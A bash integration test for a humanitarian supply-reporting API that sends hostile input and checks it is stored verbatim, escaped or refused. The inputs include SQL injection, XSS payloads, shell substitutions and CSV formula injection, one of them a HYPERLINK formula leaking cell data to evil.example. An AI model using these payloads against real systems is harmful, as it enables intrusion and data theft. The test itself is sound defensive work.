#!/bin/bash
# Hostile input (issue 5, item 4): SQL injection strings, markup, formula
# prefixes, control characters, noncharacters, surrogates and invalid UTF-8,
# through JSON, CSV and OpenRosa, and what every surface then shows.
#
# The policy this file asserts, per field:
#
#   free text, stored byte for byte (views, supplywatch.reports, payload,
#   status JSON, export) when valid, else 422 naming the field:
#     trucks      crossing (rafah: any text; lachin lists its crossings, so any
#                 other text is 422 "crossing: is not a crossing of this
#                 corridor"), note
#     shortage    item, location, note
#     disruption  disruption_id, location, note
#     access      crossing (as trucks), note
#     retraction  reason
#   URL: source_url is stored byte for byte when it is an http(s) URL without
#     spaces or controls (quotes, <, > and ' are kept), else 422 source_url.
#   enumerations (kind, direction, cargo, severity, category, service,
#     status), corridor, UUIDs, dates, timestamps and numbers: any other
#     string is 422 naming the field; nothing of it is stored.
#
#   Text refuses (422, the field named): U+0001..U+001F except tab, LF and CR;
#   U+007F and U+0080..U+009F ("must not contain control characters");
#   U+FFFE and U+FFFF ("must not contain the noncharacters U+FFFE or U+FFFF");
#   white space alone ("must not be empty"). Tab, LF, CR, U+2028, U+202E,
#   U+FEFF, U+FDD0 and astral characters are text and are kept.
#   A JSON body the parser refuses is 400 and names no field: \u0000, a lone
#   surrogate (\ud800, \udfff), a raw control byte, and bytes that are not
#   UTF-8 (C3 28, C0 AF, ED A0 80, FF). CSV: bytes that are not UTF-8 (and
#   NUL) refuse the file with 422 naming the row (column ""); a control or
#   noncharacter names the row and the column's header. OpenRosa: a character
#   XML cannot hold (&#1;, &#xFFFE;) or bad bytes is 400 "not well-formed
#   XML"; &#x7f; is 400 naming the field. Nothing is ever stored from a
#   refused request.
#
#   Surfaces: the status page and the feed escape & < > " ' (the page shows
#   shortage items and places and disruption places; the feed shows
#   disruption places), the feed stays well-formed XML and gives the exact
#   text back, the status JSON gives the exact text back, and the CSV export
#   puts ' before a text cell starting with = + - @ TAB CR or ', quotes cells
#   with , " CR LF or a blank at either end, and imports back as an identical
#   replay (the importer removes that one '; it keeps blanks around text only
#   in quoted cells, because libcsv trims unquoted ones).
. "$(dirname "$0")/../lib.sh"
sw_setup
sw_start

count() { sql "SELECT count(*) FROM supplywatch.reports"; }
# hex TEXT: the bytes of TEXT; sql_hex EXPR: the bytes of a text value in SQL.
hex() { printf '%s' "$1" | od -An -tx1 -v | tr -d ' \n'; }
sql_hex() { echo "coalesce(encode(convert_to($1, 'UTF8'), 'hex'), 'NULL')"; }
# copies N HEX: N copies of HEX, comma-separated.
copies() {
	local i out=""
	for ((i = 0; i < $1; i++)); do out+="${out:+,}$2"; done
	printf '%s' "$out"
}
post_csv() {	# post_csv FILE [QUERY]
	req POST "/api/v1/reports${2:-}" -H "Content-Type: text/csv" -H "Authorization: Bearer $TOKEN" \
		--data-binary @"$1"
}
# details: the 422 details as "index:field:reason" (JSON) or "row:column:reason" (CSV).
details() { jq -c '[.details[] | "\(.index // .row):\(.field // .column):\(.reason)"]' "$BODY"; }

# batch CORRIDOR TEXT TRUCKS_ID SHORTAGE_ID DISRUPTION_ID ACCESS_ID [SEVERITY DATE STARTED]:
# one report of each kind with TEXT in every free-text field (built by jq, so the
# JSON is right whatever TEXT holds; an empty id leaves that kind out).
batch() {
	jq -nc --arg c "$1" --arg h "$2" --arg t "$3" --arg s "$4" --arg d "$5" --arg a "$6" \
		--arg sev "${7:-moderate}" --arg day "${8:-2024-05-01}" --arg start "${9:-2024-05-01T05:00:00Z}" '{reports: [
		(select($t != "") | {kind:"trucks", report_id:$t, corridor:$c, date:$day, trucks:1, crossing:$h, note:$h}),
		(select($s != "") | {kind:"shortage", report_id:$s, corridor:$c, date:$day, item:$h, severity:$sev, location:$h, note:$h}),
		(select($d != "") | {kind:"disruption", report_id:$d, corridor:$c, service:"gas", started_at:$start, disruption_id:$h, location:$h, note:$h}),
		(select($a != "") | {kind:"access", report_id:$a, corridor:$c, status:"blocked", at:$start, crossing:$h, note:$h})]}'
}

# load_stored: every free-text value stored for every current report, as hex, from the
# analytics views, supplywatch.reports and the audit payload, into STORED[report_id]
# (one query for the whole file: the machine running the suite may be busy).
declare -A STORED
load_stored() {
	local id val
	STORED=()
	while IFS='|' read -r id val; do STORED[$id]=$val; done < <(sql "
		WITH x AS (SELECT h.report_id, h.payload, r.note FROM analytics.report_history h
		           JOIN supplywatch.reports r ON r.report_id = h.report_id)
		SELECT v.report_id, concat_ws(',', $(sql_hex v.crossing), $(sql_hex v.note), $(sql_hex x.note),
		       $(sql_hex "x.payload->>'crossing'"), $(sql_hex "x.payload->>'note'"))
		  FROM analytics.truck_reports v JOIN x USING (report_id)
		UNION ALL
		SELECT v.report_id, concat_ws(',', $(sql_hex v.item), $(sql_hex v.location), $(sql_hex v.note), $(sql_hex x.note),
		       $(sql_hex "x.payload->>'item'"), $(sql_hex "x.payload->>'location'"), $(sql_hex "x.payload->>'note'"))
		  FROM analytics.shortage_reports v JOIN x USING (report_id)
		UNION ALL
		SELECT v.latest_report_id, concat_ws(',', $(sql_hex v.disruption_id), $(sql_hex v.location), $(sql_hex v.note), $(sql_hex x.note),
		       $(sql_hex "x.payload->>'disruption_id'"), $(sql_hex "x.payload->>'location'"), $(sql_hex "x.payload->>'note'"))
		  FROM analytics.disruptions v JOIN x ON x.report_id = v.latest_report_id
		UNION ALL
		SELECT v.report_id, concat_ws(',', $(sql_hex v.crossing), $(sql_hex v.note), $(sql_hex x.note),
		       $(sql_hex "x.payload->>'crossing'"), $(sql_hex "x.payload->>'note'"))
		  FROM analytics.access_events v JOIN x USING (report_id)")
}

# --- the hostile texts --------------------------------------------------------------
# SQL and shell injection, format strings, backslashes, quotes, the white space
# text may hold, Unicode that is text (RLO, LINE SEPARATOR, BOM, a noncharacter
# other than U+FFFE/U+FFFF, a surrogate pair), and formula prefixes.  None ends
# in a newline (command substitution would drop it).
TEXTS=(
	"'); DROP TABLE supplywatch.reports;--"
	"' OR '1'='1"
	'$$; SELECT pg_sleep(10); $$'
	"x'; DELETE FROM supplywatch.tokens; SELECT '"
	'E'"'"'\x41'"'"' back\slash \\ \n \t \u0041 \" ends with \'
	'%s%n%x%p%%d %1$s %99999999s'
	'"double" `backtick` $(id) ${HOME} ; | &'
	$'line one\nline two\r\nline three\ttabbed\rend'
	'  leading and trailing spaces  '
	$'\xd5\x8d\xd5\xbf\xd5\xa5\xd6\x83\xd5\xa1\xd5\xb6\xd5\xa1\xd5\xaf\xd5\xa5\xd6\x80\xd5\xbf \xe2\x80\xae RLO \xe2\x80\xa8 LS \xef\xbb\xbf BOM \xef\xb7\x90 \xf0\x9f\x9a\x9a e\xcc\x81'
	'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
	"+1+cmd|' /C calc'!A0"
	'-2+3'
	"@SUM(1+1)*cmd|' /C calc'!A0"
	$'\t=1+1'
	$'\r=1+1'
	"'=already prefixed"
	"'plain apostrophe"
	'a, "quoted", b'
	$'multi\nline "x",\r\nend'
	' =1+1 (a space first: no formula)'
)
# Markup, on lachin, where the home page shows every shortage and disruption.
MARKUP=(
	'<script>alert(1)</script>'
	'"><img src=x onerror=alert(1)>'
	"'><svg/onload=alert(2)></title></style></textarea>"
	']]><![CDATA[<b>cdata</b>]]>'
	'Tom &amp; Jerry &lt;b&gt; &#39; &quot;'
)

# HEX[i]: the bytes of TEXTS[i]; XHEX[i]: those of the cell the export must hold for it
# (a ' before = + - @ TAB CR or ').
declare -a HEX XHEX
for i in "${!TEXTS[@]}"; do
	h=${TEXTS[$i]}
	HEX[$i]=$(hex "$h")
	case ${h:0:1} in
	'=' | '+' | '-' | '@' | $'\t' | $'\r' | "'") XHEX[$i]=27${HEX[$i]} ;;
	*) XHEX[$i]=${HEX[$i]} ;;
	esac
done

# --- SQL injection and odd text in every free-text field of every kind: stored verbatim ---
declare -a TID SID DID AID
for i in "${!TEXTS[@]}"; do
	TID[$i]=$(uuid); SID[$i]=$(uuid); DID[$i]=$(uuid); AID[$i]=$(uuid)
	t0=$EPOCHREALTIME
	post_json /api/v1/reports "$(batch rafah "${TEXTS[$i]}" "${TID[$i]}" "${SID[$i]}" "${DID[$i]}" "${AID[$i]}")"
	t1=$EPOCHREALTIME
	expect_status 201 "text $i stored in every free-text field"
	# pg_sleep(10) would hold the request for ten seconds.
	if [ "$i" = 2 ]; then
		ms=$(((${t1/[.,]/} - ${t0/[.,]/}) / 1000))
		if [ "$ms" -lt 8000 ]; then ok; else fail "the pg_sleep(10) text took $ms ms"; fi
	fi
done
N=$(count)
expect_eq "$N" "$((4 * ${#TEXTS[@]}))" "every report stored, the table still there"
expect_eq "$(sql "SELECT to_regclass('supplywatch.reports') IS NOT NULL, to_regclass('supplywatch.retractions') IS NOT NULL, (SELECT count(*) FROM supplywatch.tokens WHERE revoked_at IS NULL)")" "t|t|1" "no table dropped, no token deleted"
load_stored
for i in "${!TEXTS[@]}"; do
	expect_eq "${STORED[${TID[$i]}]-missing}" "$(copies 5 "${HEX[$i]}")" "text $i: trucks crossing and note, byte for byte"
	expect_eq "${STORED[${SID[$i]}]-missing}" "$(copies 7 "${HEX[$i]}")" "text $i: shortage item, location and note"
	expect_eq "${STORED[${DID[$i]}]-missing}" "$(copies 7 "${HEX[$i]}")" "text $i: disruption_id, location and note"
	expect_eq "${STORED[${AID[$i]}]-missing}" "$(copies 5 "${HEX[$i]}")" "text $i: access crossing and note"
done
# A token still works after "DELETE FROM supplywatch.tokens".
post_json /api/v1/reports "$(batch rafah "after the injections" "$(uuid)" "" "" "")"
expect_status 201 "the token still works"
N=$(count)

# lachin lists its crossings: any other crossing, however hostile, is refused.
for i in 0 1 2 3; do
	post_json /api/v1/reports "$(batch lachin "${TEXTS[$i]}" "$(uuid)" "" "" "$(uuid)")"
	expect_status 422 "hostile crossing $i on lachin"
	expect_eq "$(details)" '["0:crossing:is not a crossing of this corridor; known crossings: Hakari bridge, Lachin checkpoint","1:crossing:is not a crossing of this corridor; known crossings: Hakari bridge, Lachin checkpoint"]' "crossing $i named, for trucks and access"
done
expect_eq "$(count)" "$N" "refused crossings stored nothing"

# Enumerations, ids, dates, numbers and the corridor: hostile strings are refused, each named.
X="'); DROP TABLE supplywatch.reports;--"
post_json /api/v1/reports "$(jq -nc --arg x "$X" '{kind:"trucks", report_id:$x, supersedes:$x, corridor:$x, source_url:$x, date:$x, observed_at:$x, trucks:$x, direction:$x, cargo:$x, tonnes:$x, turned_back:$x}')"
expect_status 422 "hostile trucks fields"
expect_eq "$(details)" '["0:report_id:must be a UUID like 123e4567-e89b-42d3-a456-426614174000","0:supersedes:must be a UUID like 123e4567-e89b-42d3-a456-426614174000","0:corridor:is not a corridor configured on this server","0:source_url:must be an http:// or https:// URL of at most 2048 bytes","0:date:must be a real date as YYYY-MM-DD","0:observed_at:must be an RFC 3339 timestamp with a UTC offset, like 2023-01-17T08:00:00+04:00","0:trucks:must be a whole number","0:direction:must be one of: inbound, outbound","0:cargo:must be one of: food, medical, fuel, hygiene, shelter, mixed, nutrition, wash, education, other","0:tonnes:must be a number","0:turned_back:must be a whole number"]' "every trucks field named"
post_json /api/v1/reports "$(jq -nc --arg x "$X" --arg id "$(uuid)" '{kind:"shortage", report_id:$id, corridor:"rafah", date:$x, item:"flour", severity:$x, category:$x}')"
expect_eq "$STATUS $(details)" '422 ["0:date:must be a real date as YYYY-MM-DD","0:severity:must be one of: none, low, moderate, severe, critical","0:category:must be one of: food, medicine, fuel, hygiene, baby, other"]' "every shortage enumeration named"
post_json /api/v1/reports "$(jq -nc --arg x "$X" --arg id "$(uuid)" '{kind:"disruption", report_id:$id, corridor:"rafah", service:$x, started_at:$x, ended_at:$x, people_affected:$x}')"
expect_eq "$STATUS $(details)" '422 ["0:service:must be one of: gas, electricity, water, internet, phone, fuel, medical, transport, education, other","0:started_at:must be an RFC 3339 timestamp with a UTC offset, like 2023-01-17T08:00:00+04:00","0:ended_at:must be an RFC 3339 timestamp with a UTC offset, like 2023-01-17T08:00:00+04:00","0:people_affected:must be a whole number"]' "every disruption field named"
post_json /api/v1/reports "$(jq -nc --arg x "$X" --arg id "$(uuid)" '{kind:"access", report_id:$id, corridor:"rafah", status:$x, at:$x}')"
expect_eq "$STATUS $(details)" '422 ["0:status:must be one of: open, restricted, blocked","0:at:must be an RFC 3339 timestamp with a UTC offset, like 2023-01-17T08:00:00+04:00"]' "every access field named"
post_json /api/v1/reports "$(jq -nc --arg x "$X" '{kind:$x}')"
expect_eq "$STATUS $(details)" '422 ["0:kind:must be one of: trucks, shortage, disruption, access, movement"]' "a hostile kind"
post_json /api/v1/reports "$(jq -nc --arg x "$X" --arg id "$(uuid)" '{kind:"trucks", report_id:$id, corridor:"rafah", date:"2024-05-01", trucks:1} + {($x): 1}')"
expect_eq "$STATUS $(details)" "422 [\"0:$X:is not a field of this kind of report\"]" "a hostile field name, echoed as JSON"
expect_eq "$(count)" "$N" "hostile enumerations stored nothing"

# source_url: an http(s) URL without spaces keeps quotes and markup verbatim; with a space it is refused.
U1="https://example.org/?q=');DROP%20TABLE&x='OR'1'='1"
U2='https://example.org/"><script>alert(1)</script>'
URL_ID=$(uuid)
post_json /api/v1/reports "$(jq -nc --arg id "$URL_ID" --arg u "$U1" '{kind:"trucks", report_id:$id, corridor:"rafah", date:"2024-05-02", trucks:2, source_url:$u}')"
expect_status 201 "a URL with quotes"
URL_ID2=$(uuid)
post_json /api/v1/reports "$(jq -nc --arg id "$URL_ID2" --arg u "$U2" '{kind:"access", report_id:$id, corridor:"rafah", status:"open", at:"2024-05-02T05:00:00Z", source_url:$u}')"
expect_status 201 "a URL with markup"
expect_eq "$(sql "SELECT $(sql_hex source_url) || ',' || $(sql_hex "(SELECT source_url FROM supplywatch.reports WHERE report_id = '$URL_ID')") FROM analytics.truck_reports WHERE report_id = '$URL_ID'")" "$(copies 2 "$(hex "$U1")")" "URL stored verbatim"
expect_eq "$(sql "SELECT $(sql_hex source_url) FROM analytics.access_events WHERE report_id = '$URL_ID2'")" "$(hex "$U2")" "URL with markup stored verbatim"
for u in "https://example.org/ '); DROP TABLE x;--" 'javascript:alert(1)' $'https://example.org/\x7f' $'https://example.org/\n<script>'; do
	post_json /api/v1/reports "$(jq -nc --arg id "$(uuid)" --arg u "$u" '{kind:"trucks", report_id:$id, corridor:"rafah", date:"2024-05-02", trucks:2, source_url:$u}')"
	expect_eq "$STATUS $(details)" '422 ["0:source_url:must be an http:// or https:// URL of at most 2048 bytes"]' "URL refused: $u"
done
N=$(count)

# --- control characters, noncharacters, surrogates, bad bytes in JSON ------------------
# \uXXXX escapes of controls reach validation: 422 naming the field.
for cp in 0001 0002 0007 0008 000b 000c 000e 001b 001f 007f 0080 0085 009f; do
	post_json /api/v1/reports "{\"kind\":\"shortage\",\"report_id\":\"$(uuid)\",\"corridor\":\"rafah\",\"date\":\"2024-05-01\",\"item\":\"flour\\u${cp}x\",\"severity\":\"low\"}"
	expect_eq "$STATUS $(details)" '422 ["0:item:must not contain control characters"]' "U+$cp refused"
done
for cp in fffe ffff; do
	post_json /api/v1/reports "{\"kind\":\"shortage\",\"report_id\":\"$(uuid)\",\"corridor\":\"rafah\",\"date\":\"2024-05-01\",\"item\":\"flour\",\"severity\":\"low\",\"location\":\"x\\u${cp}\"}"
	expect_eq "$STATUS $(details)" '422 ["0:location:must not contain the noncharacters U+FFFE or U+FFFF"]' "U+$cp refused"
done
# Every free-text field of every kind, in one batch: each named; nothing of the batch stored.
C='a\u0001b'
post_json /api/v1/reports "{\"reports\":[{\"kind\":\"trucks\",\"report_id\":\"$(uuid)\",\"corridor\":\"rafah\",\"date\":\"2024-05-01\",\"trucks\":1,\"crossing\":\"$C\",\"note\":\"$C\"},{\"kind\":\"shortage\",\"report_id\":\"$(uuid)\",\"corridor\":\"rafah\",\"date\":\"2024-05-01\",\"item\":\"$C\",\"severity\":\"low\",\"location\":\"$C\",\"note\":\"$C\"},{\"kind\":\"disruption\",\"report_id\":\"$(uuid)\",\"corridor\":\"rafah\",\"service\":\"gas\",\"started_at\":\"2024-05-01T05:00:00Z\",\"disruption_id\":\"$C\",\"location\":\"$C\",\"note\":\"$C\"},{\"kind\":\"access\",\"report_id\":\"$(uuid)\",\"corridor\":\"rafah\",\"status\":\"open\",\"at\":\"2024-05-01T05:00:00Z\",\"crossing\":\"$C\",\"note\":\"$C\"},{\"kind\":\"trucks\",\"report_id\":\"$(uuid)\",\"corridor\":\"rafah\",\"date\":\"2024-05-01\",\"trucks\":1}]}"
expect_status 422 "a control character in every free-text field"
expect_eq "$(details)" '["0:note:must not contain control characters","0:crossing:must not contain control characters","1:note:must not contain control characters","1:item:must not contain control characters","1:location:must not contain control characters","2:note:must not contain control characters","2:disruption_id:must not contain control characters","2:location:must not contain control characters","3:note:must not contain control characters","3:crossing:must not contain control characters"]' "every field named, by index"
# White space alone is empty (a CSV cell or a form answer of blanks is absent too).
post_json /api/v1/reports "{\"kind\":\"shortage\",\"report_id\":\"$(uuid)\",\"corridor\":\"rafah\",\"date\":\"2024-05-01\",\"item\":\" \\t \",\"severity\":\"low\",\"note\":\" \"}"
expect_eq "$STATUS $(details)" '422 ["0:note:must not be empty","0:item:must not be empty"]' "blank text refused"
# Raw DEL, NEL and U+FFFE bytes are well-formed UTF-8 JSON: the field is named.
post_json /api/v1/reports "$(printf '{"kind":"shortage","report_id":"%s","corridor":"rafah","date":"2024-05-01","item":"a\x7fb","severity":"low","location":"a\xc2\x85b","note":"a\xef\xbf\xbeb"}' "$(uuid)")"
expect_eq "$STATUS $(details)" '422 ["0:note:must not contain the noncharacters U+FFFE or U+FFFF","0:item:must not contain control characters","0:location:must not contain control characters"]' "raw DEL, NEL and U+FFFE named"
# What the JSON parser refuses is 400 and names no field. jansson's column is where the
# string token ends for a bad escape, and the last good byte for a bad byte.
B='{"kind":"shortage","report_id":"0b5e4f2a-1c3d-4e5f-8a9b-0c1d2e3f4a5b","corridor":"rafah","date":"2024-05-01","severity":"low","item":"a'
post_json /api/v1/reports "$B\\u0000b\"}"
expect_eq "$STATUS $(jq -r .error "$BODY")" "400 body is not valid JSON: \\u0000 is not allowed without JSON_ALLOW_NUL near '\"a\\u0000b\"' (line 1, column $((${#B} + 8)))" "\\u0000"
post_json /api/v1/reports "$B\\ud800b\"}"
expect_eq "$STATUS $(jq -r .error "$BODY")" "400 body is not valid JSON: invalid Unicode '\\uD800' near '\"a\\ud800b\"' (line 1, column $((${#B} + 8)))" "a lone high surrogate"
post_json /api/v1/reports "$B\\udfffb\"}"
expect_eq "$STATUS $(jq -r .error "$BODY")" "400 body is not valid JSON: invalid Unicode '\\uDFFF' near '\"a\\udfffb\"' (line 1, column $((${#B} + 8)))" "a lone low surrogate"
post_json /api/v1/reports "$B\\ud800\\u0041\"}"
expect_eq "$STATUS $(jq -r .error "$BODY")" "400 body is not valid JSON: invalid Unicode '\\uD800\\u0041' near '\"a\\ud800\\u0041\"' (line 1, column $((${#B} + 13)))" "a high surrogate before a non-surrogate"
for bad in 'c3 28' 'c0 af' 'ed a0 80' 'ff' '01'; do
	post_json /api/v1/reports "$B$(printf "$(printf '\\x%s' $bad)")b\"}"
	case $bad in
	01) want="400 body is not valid JSON: control character 0x1 near '\"a' (line 1, column ${#B})" ;;
	*) want="400 body is not valid JSON: unable to decode byte 0x${bad%% *} near '\"a' (line 1, column ${#B})" ;;
	esac
	expect_eq "$STATUS $(jq -r .error "$BODY")" "$want" "raw bytes $bad"
done
expect_eq "$(count)" "$N" "refused bodies stored nothing"
# A surrogate pair is one character, and is kept.
PAIR_ID=$(uuid)
post_json /api/v1/reports "{\"kind\":\"trucks\",\"report_id\":\"$PAIR_ID\",\"corridor\":\"rafah\",\"date\":\"2024-05-02\",\"trucks\":3,\"note\":\"truck \\ud83d\\ude9a\"}"
expect_status 201 "a surrogate pair"
expect_eq "$(sql "SELECT $(sql_hex note) FROM analytics.truck_reports WHERE report_id = '$PAIR_ID'")" "$(hex $'truck \xf0\x9f\x9a\x9a')" "stored as U+1F69A"
N=$(count)

# --- retraction reasons ----------------------------------------------------------------
REASON=$'\'); DROP TABLE supplywatch.retractions;-- <script>\r\n"x"'
post_json "/api/v1/reports/$URL_ID/retract" "$(jq -nc --arg r "$REASON" '{reason:$r}')"
expect_status 201 "a hostile retraction reason"
expect_json '.reason' "$(jq -nc --arg r "$REASON" '$r')" "reason echoed exactly"
RFIRST=$(cat "$BODY")
expect_eq "$(sql "SELECT $(sql_hex retraction_reason) FROM analytics.report_history WHERE report_id = '$URL_ID'")" "$(hex "$REASON")" "reason stored verbatim"
post_json "/api/v1/reports/$URL_ID/retract" "$(jq -nc --arg r "$REASON" '{reason:$r}')"
expect_eq "$STATUS $(cat "$BODY")" "200 $RFIRST" "the same reason again: the first body"
post_json "/api/v1/reports/$PAIR_ID/retract" '{"reason":"a\u001bb"}'
expect_eq "$STATUS $(details)" '422 ["0:reason:must not contain control characters"]' "control in a reason"
post_json "/api/v1/reports/$PAIR_ID/retract" '{"reason":"a\u0000b"}'
expect_eq "$STATUS $(jq -r .error "$BODY")" "400 body must be a JSON object {\"reason\": \"...\"}: \\u0000 is not allowed without JSON_ALLOW_NUL near '\"a\\u0000b\"'" "NUL in a reason"
expect_eq "$(sql "SELECT count(*) FROM supplywatch.retractions")" "1" "refused retractions changed nothing"

# --- markup: escaped on the page, exact in JSON and the feed --------------------------
declare -a MSID MDID MHEX
for i in "${!MARKUP[@]}"; do
	MSID[$i]=$(uuid); MDID[$i]=$(uuid); MHEX[$i]=$(hex "${MARKUP[$i]}")
	post_json /api/v1/reports "$(batch lachin "${MARKUP[$i]}" "" "${MSID[$i]}" "${MDID[$i]}" "" critical 2023-01-05 2023-01-03T04:00:00Z)"
	expect_status 201 "markup $i"
done
load_stored
for i in "${!MARKUP[@]}"; do
	expect_eq "${STORED[${MSID[$i]}]-missing},${STORED[${MDID[$i]}]-missing}" "$(copies 14 "${MHEX[$i]}")" "markup $i stored verbatim"
done
N=$(count)
wait_snapshot
for surface in /api/v1/status / /corridors/lachin /corridors/rafah /feed.atom; do
	req GET "$surface"
	expect_status 200 "GET $surface"
	cp "$BODY" "$WORK/surface.$(echo "$surface" | tr -c 'a-z0-9\n' '_')"
done
jq -e . "$WORK/surface._api_v1_status" >/dev/null 2>&1
expect_eq "$?" "0" "the status JSON parses"
xmllint --noout "$WORK/surface._feed_atom" 2>"$WORK/xmllint.err"
expect_eq "$?:$(head -c 300 "$WORK/xmllint.err")" "0:" "the feed is well-formed XML"
expect_eq "$(cd "$WORK" && grep -c '<script' surface._ surface._corridors_lachin surface._corridors_rafah surface._feed_atom | tr '\n' ' ')" \
	"surface._:0 surface._corridors_lachin:0 surface._corridors_rafah:0 surface._feed_atom:0 " "no script element anywhere"

# The oracle, for each text: how the status JSON gives the text back as a shortage item and
# place and as a disruption place, how often an XML parser reads it back from a feed
# title, how often each page holds the exact escaped list items (esc_html: & < > " ' as
# entities; the days and since taken from the status JSON), and how often the raw text
# (where escaping changes it; "-" where it does not).
cat >"$WORK/oracle.py" <<'ORACLE'
import json, sys, xml.etree.ElementTree as E
work, corridor, sev = sys.argv[1:4]
pages = [open(f"{work}/surface.{p}", "rb").read() for p in sys.argv[4:]]
texts = [t.decode() for t in sys.stdin.buffer.read().split(b"\0")[:-1]]
status = json.load(open(f"{work}/surface._api_v1_status"))
c = [x for x in status["corridors"] if x["id"] == corridor][0]
titles = [t.text for t in E.parse(f"{work}/surface._feed_atom").getroot().iter("{http://www.w3.org/2005/Atom}title")]
def esc(s):
    for a, b in (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;"), ('"', "&quot;"), ("'", "&#39;")):
        s = s.replace(a, b)
    return s
def plural(n):
    return "" if n == 1 else "s"
MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August",
          "September", "October", "November", "December"]
def long_date(iso):
    # The page writes dates as English does: "3 January 2023".
    y, m, d = iso[:10].split("-")
    return f"{int(d)} {MONTHS[int(m) - 1]} {y}"
level = {"low": 1, "moderate": 2, "severe": 3, "critical": 4}[sev]
for t in texts:
    sh = [x for x in c["shortages"]["items"] if x["item"] == t]
    di = [x for x in c["disruptions"] if x["location"] == t]
    out = [json.dumps([[x["location"] == t, x["severity"]] for x in sh], separators=(",", ":")),
           json.dumps([x["service"] for x in di], separators=(",", ":")),
           str(titles.count(f"Gas disruption in {t} began"))]
    li_s = li_d = "\0"
    if sh:
        li_s = (f'<li><span class="badge v{level}">{sev.upper()}</span> <strong><bdi>{esc(t)}</bdi></strong>, '
                f'<bdi>{esc(t)}</bdi>: for {sh[0]["days"]:,} day{plural(sh[0]["days"])} since {long_date(sh[0]["since"])}</li>\n')
    if di:
        s = di[0]["since"]
        li_d = (f"<li><strong>Gas</strong> in <bdi>{esc(t)}</bdi>, since {long_date(s[:10])}, {s[11:16]} (UTC{s[19:]}): "
                f'<strong>{di[0]["days"]:,}</strong> day{plural(di[0]["days"])}</li>\n')
    for p in pages:
        out.append(f"{p.count(li_s.encode())}:{p.count(li_d.encode())}")
        out.append(str(p.count(t.encode())) if esc(t) != t else "-")
    print("|".join(out))
ORACLE
# check_surfaces CORRIDOR SEVERITY LABEL TEXT...: the oracle's answers, one check each.
check_surfaces() {
	local c=$1 sev=$2 label=$3 i=0 f
	shift 3
	while IFS='|' read -ra f; do
		expect_eq "${f[0]}" "[[true,\"$sev\"]]" "$label $i: the status JSON gives shortage item and place back exactly"
		expect_eq "${f[1]}" '["gas"]' "$label $i: the status JSON gives the disruption place back exactly"
		expect_eq "${f[2]}" "1" "$label $i: a feed title gives the disruption place back exactly"
		expect_eq "${f[3]}" "1:1" "$label $i: the corridor page shows the escaped shortage and disruption"
		[ "${f[4]}" = - ] || expect_eq "${f[4]}" "0" "$label $i: the corridor page never holds the raw text"
		if [ "$c" = lachin ]; then
			expect_eq "${f[5]}" "1:1" "$label $i: the home page shows the escaped shortage and disruption"
		fi
		# The home page cuts rafah's lists to five; whatever it shows is escaped.
		[ "${f[6]}" = - ] || expect_eq "${f[6]}" "0" "$label $i: the home page never holds the raw text"
		i=$((i + 1))
	done < <(printf '%s\0' "$@" | python3 "$WORK/oracle.py" "$WORK" "$c" "$sev" "_corridors_$c" _)
	expect_eq "$i" "$#" "$label: the oracle answered for every text"
}
check_surfaces lachin critical markup "${MARKUP[@]}"
check_surfaces rafah moderate text "${TEXTS[@]}"
# The daily series carry no report text, and stay valid with it around.
req GET /api/v1/corridors/rafah/daily
expect_eq "$STATUS $(jq -c '[.corridor, (.days | length > 0), ([.days[] | select(.date == "2024-05-01")][0].trucks)]' "$BODY")" "200 [\"rafah\",true,$((${#TEXTS[@]} + 1))]" "daily JSON"
req GET "/api/v1/corridors/rafah/daily.csv?from=2024-05-01&to=2024-05-02"
expect_eq "$STATUS $(sed -n 3p "$BODY" | tr -d '\r')" "200 2024-05-01,$((${#TEXTS[@]} + 1)),1,$((${#TEXTS[@]} + 1)),$((${#TEXTS[@]} + 1)),,blocked,blocked,blocked,declared,false,true,rafah,crossed,single source" "daily CSV"

# --- the CSV export: formula prefixes defused, quoting exact, and the round trip ------------
# export.py FILE FIELD... < ids: the export parsed by Python's csv module (strict); first
# line: whether every row is as wide as the header, and the number of rows; then, for
# each report id read, the hex of its cells in FIELD..., comma-separated.
cat >"$WORK/export.py" <<'EXPORT'
import csv, sys
with open(sys.argv[1], newline="", encoding="utf-8") as f:
    rows = list(csv.reader(f, strict=True))
head = rows[0]
print(f"{all(len(r) == len(head) for r in rows)} {len(rows) - 2}")
by_id = {r[0]: dict(zip(head, r)) for r in rows[2:]}
for rid in sys.stdin.read().split():
    r = by_id.get(rid)
    print(",".join(r[f].encode().hex() for f in sys.argv[2:]) if r else "missing")
EXPORT
current() { sql "SELECT count(*) FROM supplywatch.current_reports WHERE kind = '$1' AND corridor_id = 'rafah'"; }
for kind in trucks shortage disruption access; do
	req GET "/api/v1/reports.csv?kind=$kind&corridor=rafah"
	expect_status 200 "export of $kind"
	cp "$BODY" "$WORK/export-$kind.csv"
	case $kind in
	trucks) ids=("${TID[@]}") fields=(crossing note) ;;
	shortage) ids=("${SID[@]}") fields=(item location note) ;;
	disruption) ids=("${DID[@]}") fields=(disruption_id location note) ;;
	access) ids=("${AID[@]}") fields=(crossing note) ;;
	esac
	i=-1
	while read -r line; do
		if [ "$i" = -1 ]; then
			expect_eq "$line" "True $(current "$kind")" "the $kind export parses strictly: rows as wide as the header, one per report"
		else
			expect_eq "$line" "$(copies "${#fields[@]}" "${XHEX[$i]}")" "export of $kind, text $i: exact cells"
		fi
		i=$((i + 1))
	done < <(printf '%s\n' "${ids[@]}" | python3 "$WORK/export.py" "$WORK/export-$kind.csv" "${fields[@]}")
	expect_eq "$i" "${#TEXTS[@]}" "the $kind export answered for every text"
	# Back in as a spreadsheet: the ' is undone exactly once, so every row is an identical replay.
	post_csv "$WORK/export-$kind.csv"
	expect_eq "$STATUS $(jq -c '[.rows, .ignored_columns]' "$BODY")" "200 [$(current "$kind"),[\"received_at\"]]" "the $kind export imports back as a replay"
done
# The raw bytes of two cells: a quote doubled inside a defused formula, a CR LF kept in quotes.
occurs() { python3 -c 'import os, sys; print(open(sys.argv[1], "rb").read().count(os.fsencode(sys.argv[2])))' "$1" "$2"; }
expect_eq "$(occurs "$WORK/export-trucks.csv" ",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\",")" "2" "formula cell, raw"
expect_eq "$(occurs "$WORK/export-trucks.csv" $',"multi\nline ""x"",\r\nend",')" "2" "multi-line cell, raw"
expect_eq "$(count)" "$N" "the round trips stored nothing"
# The URL with markup exports exactly too.
req GET "/api/v1/reports.csv?kind=access&corridor=rafah&from=2024-05-02"
cp "$BODY" "$WORK/urls.csv"
